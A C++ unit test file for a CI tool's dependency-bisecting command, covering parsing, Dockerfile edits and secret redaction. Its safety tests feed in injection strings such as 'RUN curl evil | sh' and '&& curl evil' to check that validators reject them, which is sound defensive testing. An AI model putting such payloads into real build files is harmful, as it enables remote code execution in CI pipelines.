#include <support/catch.hpp>
#include <support/helpers.hpp>

#include <breeze/base/redact.hpp>
#include <breeze/commands/ci/bisect_backtracking.hpp>

#include <nlohmann/json.hpp>

using namespace breeze;
using namespace breeze::commands::ci;

TEST_CASE("bisect-backtracking: probe commands are split like a shell, without one", "[unit][bisect]") {
  auto w = split_command_line(R"(./resolve.sh --reqs {requirements} 'two words' "a \"q\" $x" back\ slash)");
  REQUIRE(w);
  CHECK(*w == std::vector<std::string>{"./resolve.sh", "--reqs", "{requirements}", "two words", "a \"q\" $x", "back slash"});
  CHECK(substitute_requirements(*w, "a<=1 b<=2")[2] == "a<=1 b<=2");
  CHECK(substitute_requirements({"--r={requirements}"}, "a<=1") == std::vector<std::string>{"--r=a<=1"});
  CHECK_FALSE(split_command_line("echo 'open"));
  CHECK_FALSE(split_command_line("echo \"open"));
}

TEST_CASE("bisect-backtracking: default probe timeout is max(1.5 T, T + 120 s)", "[unit][bisect]") {
  using std::chrono::milliseconds;
  CHECK(default_probe_timeout(milliseconds(480'000)) == milliseconds(720'000)); // 8 min -> 12 min
  CHECK(default_probe_timeout(milliseconds(60'000)) == milliseconds(180'000));  // 1 min -> 3 min
}

TEST_CASE("bisect-backtracking: limits from requirements and from candidates JSON", "[unit][bisect]") {
  auto l = parse_limits("aiobotocore<=2.5.4  asana<=3.2.1\n");
  REQUIRE(l);
  REQUIRE(l->size() == 2);
  CHECK((*l)[1].name == "asana");
  CHECK((*l)[1].limit == "asana<=3.2.1");
  CHECK_FALSE(parse_limits("aiobotocore"));
  CHECK_FALSE(parse_limits("aiobotocore<=not-a-version"));
  auto j = limits_from_candidates_json(
      R"({"candidates":[{"name":"aiobotocore","pinned":"2.5.4","latest":"2.6.0","released":"2023-08-11T20:43:19Z"}]})");
  REQUIRE(j);
  CHECK((*j)[0].limit == "aiobotocore<=2.5.4");
  CHECK((*j)[0].latest == "2.6.0");
  CHECK_FALSE(limits_from_candidates_json("{}"));
  CHECK_FALSE(limits_from_candidates_json("not json"));
}

TEST_CASE("bisect-backtracking: conflict lines are picked out of pip's output", "[unit][bisect]") {
  const std::string out = "Collecting aiobotocore==2.6.0\n  Downloading aiobotocore-2.6.0.whl\n"
                          "ERROR: Cannot install aiobotocore==2.6.0 and botocore==1.31.25 because these package "
                          "versions have conflicting dependencies.\n\nThe conflict is caused by:\n"
                          "    aiobotocore 2.6.0 depends on botocore<1.31.18 and >=1.31.17\n\x1b[31mdone\x1b[0m\n";
  CHECK(conflict_lines(out) ==
        std::vector<std::string>{"ERROR: Cannot install aiobotocore==2.6.0 and botocore==1.31.25 because these package "
                                 "versions have conflicting dependencies.",
                                 "The conflict is caused by:", "aiobotocore 2.6.0 depends on botocore<1.31.18 and >=1.31.17"});
}

TEST_CASE("bisect-backtracking: Dockerfile.ci edit merges limits and comments them", "[unit][bisect]") {
  const std::string before = "FROM python\n# keep\nARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"mypy<1.3 aiobotocore<2.5.0\"\n"
                             "ARG OTHER=1\n";
  auto after = add_eager_upgrade_limits(before, {{"aiobotocore<2.6.0", "why aio"}, {"asana<4.0.5", "why asana"}});
  REQUIRE(after);
  CHECK(*after == "FROM python\n# keep\n# why aio\n# why asana\n"
                  "ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"mypy<1.3 aiobotocore<2.6.0 asana<4.0.5\"\nARG OTHER=1\n");
  // Applying again changes nothing; an empty ARG gets the limit; no ARG is an error.
  CHECK(*add_eager_upgrade_limits(*after, {{"aiobotocore<2.6.0", "why aio"}}) == *after);
  CHECK(*add_eager_upgrade_limits("  ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"\"", {{"a<2", "c"}}) ==
        "  # c\n  ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"a<2\"");
  CHECK_FALSE(add_eager_upgrade_limits("FROM python\n", {{"a<2", "c"}}));
}

TEST_CASE("bisect-backtracking: in-process with a recording runner, and --dry-run", "[unit][bisect]") {
  files::TempDir dir;
  test::InProcess breeze;
  breeze.cwd = dir.path();
  breeze.env["TMPDIR"] = dir.path().string();
  test::ScopedEnv tmp("TMPDIR", dir.path().string());
  breeze.runner.respond = [](const process::ProcessSpec& spec) {
    process::ProcessResult r;
    const auto& reqs = spec.argv.at(2);
    r.exit_code = reqs.find("b<=2") != std::string::npos || reqs.find("b==3") != std::string::npos ? 0 : 1;
    return r;
  };
  const std::vector<std::string> base{"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
                                      "probe --reqs {requirements}", "--probe-timeout", "5", "--output", "json"};
  test::write_file(dir.path() / "c.json",
                   R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"},)"
                   R"({"name":"c","pinned":"1","latest":"1.5"}]})");
  REQUIRE(breeze.run(base) == 0);
  auto doc = nlohmann::json::parse(breeze.out.str());
  CHECK(doc["culprits"] == nlohmann::json{"b<=2"});
  CHECK(doc["checks"][0]["verdict"] == "heuristics");
  CHECK(doc["add"] == "b<3");
  CHECK(breeze.runner.calls.front().argv ==
        std::vector<std::string>{"probe", "--reqs", "a<=1 b<=2 c<=1"});
  CHECK(breeze.runner.calls.front().timeout == std::chrono::milliseconds(5000));
  CHECK(breeze.runner.calls.back().argv[2] == "b==3");

  test::InProcess dry;
  dry.cwd = dir.path();
  auto args = base;
  args.push_back("--dry-run");
  CHECK(dry.run(args) == 0);
  CHECK(dry.runner.calls.empty()); // printed, not run
  CHECK_THAT(dry.out.str(), Catch::Contains("probe --reqs 'a<=1 b<=2 c<=1'"));

  test::InProcess bad;
  bad.cwd = dir.path();
  CHECK(bad.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command", "probe"}) == 2);
  CHECK(bad.runner.calls.empty());
}

TEST_CASE(
    "bisect-backtracking: every candidates-file field must be a PEP 508 name or PEP 440 version",
    "[unit][bisect][safety]") {
  auto ok = make_limit("aiobotocore", " 2.5.4\n", "v2.6.0");
  REQUIRE(ok);
  CHECK(ok->limit == "aiobotocore<=2.5.4"); // normalised, whitespace gone
  CHECK(ok->latest == "2.6.0");
  auto injected = make_limit("aiobotocore", "2.5.4", "1.0\nRUN curl evil | sh");
  REQUIRE_FALSE(injected);
  CHECK(injected.error().message ==
        "aiobotocore: latest '1.0RUN curl evil | sh' is not a PEP 440 version");
  CHECK_FALSE(make_limit("aiobotocore", "2.5.4", "2.6.0\" && curl evil"));
  CHECK_FALSE(make_limit("aiobotocore", "2.5.4\nRUN x", "2.6.0"));
  CHECK_FALSE(make_limit("bad name", "1", "2"));
  CHECK_FALSE(make_limit("a\nRUN x", "1", "2"));

  CHECK_FALSE(limits_from_candidates_json(
      R"({"candidates":[{"name":"a","pinned":"1","latest":"1.0\nRUN x"}]})"));
  CHECK_FALSE(
      limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":"1","latest":7}]})"));
  CHECK_FALSE(limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":1}]})"));
  CHECK_FALSE(limits_from_candidates_json(R"([1,2])"));
  auto none =
      limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":"1","latest":null}]})");
  REQUIRE(none);
  CHECK(none->front().latest.empty());
}

TEST_CASE("bisect-backtracking: the Dockerfile edit refuses anything that could start a line",
          "[unit][bisect][safety]") {
  const std::string file = "ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"\"\n";
  CHECK(add_eager_upgrade_limits(file, {{"a<2", "why"}}));
  for (const auto* bad : {"a<1.0\nRUN curl evil | sh", "a<2\" && curl evil", "a<2 b<3", "a", "a<2'",
                          "a===$(x)", "a===`x`", "a<2\r"})
    CHECK_FALSE(add_eager_upgrade_limits(file, {{bad, "why"}}));
  CHECK_FALSE(add_eager_upgrade_limits(file, {{"a<2", "why\nRUN curl evil | sh"}}));
}

TEST_CASE("bisect-backtracking: the report masks tokens and URL userinfo from probe output",
          "[unit][bisect][safety]") {
  files::TempDir dir;
  const std::string token = "ghp_unitSecretToken0123456789";
  redact::clear_secrets();
  redact::add_secret(token);
  test::InProcess breeze;
  breeze.cwd = dir.path();
  breeze.env["TMPDIR"] = dir.path().string();
  breeze.runner.respond = [&](const process::ProcessSpec& spec) {
    process::ProcessResult r;
    const auto& reqs = spec.argv.at(1);
    r.exit_code = reqs.find("b<=2") != std::string::npos ? 0 : 1;
    r.out =
        "ERROR: cannot fetch https://u:" + token + "@pypi.example/simple (token " + token + ")\n";
    return r;
  };
  test::write_file(
      dir.path() / "c.json",
      R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"}]})");
  for (const auto* output : {"json", "text"}) {
    breeze.out.str("");
    REQUIRE(
        breeze.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
                    "probe {requirements}", "--probe-timeout", "5", "--output", output}) == 0);
    INFO(breeze.out.str());
    CHECK_THAT(breeze.out.str(), Catch::Contains("https://pypi.example/simple"));
    CHECK_THAT(breeze.out.str(), !Catch::Contains(token));
  }
  redact::clear_secrets();
}
